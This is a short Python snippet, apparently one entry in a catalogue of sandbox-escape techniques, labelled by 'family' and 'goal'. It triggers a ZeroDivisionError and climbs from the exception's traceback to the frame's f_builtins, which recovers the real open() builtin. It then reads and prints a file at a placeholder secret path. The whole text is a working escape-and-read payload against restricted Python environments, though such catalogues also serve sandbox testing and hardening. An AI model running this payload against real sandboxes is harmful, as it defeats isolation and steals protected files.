# family: exceptions' __traceback__
# goal: climb from a traceback to frames and the real builtins
try:
    1 / 0
except ZeroDivisionError as err:
    tb = err.__traceback__
    frame = tb.tb_frame
    builtins_ns = frame.f_builtins
    print(builtins_ns["open"]("__SECRET_PATH__").read())
